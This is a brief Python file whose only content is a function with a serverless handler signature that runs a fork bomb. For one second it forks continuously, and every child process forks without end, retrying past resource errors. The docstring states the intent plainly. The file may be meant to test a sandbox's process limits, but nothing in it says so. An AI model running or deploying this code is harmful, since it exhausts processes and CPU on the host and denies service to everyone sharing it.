"""Forks for a second; the children go on forking."""

import os
import time


def handler(event, context):
    end = time.monotonic() + 1
    while time.monotonic() < end:
        try:
            if os.fork() == 0:
                while True:
                    try:
                        os.fork()
                    except OSError:
                        time.sleep(0.01)
        except OSError:
            time.sleep(0.001)
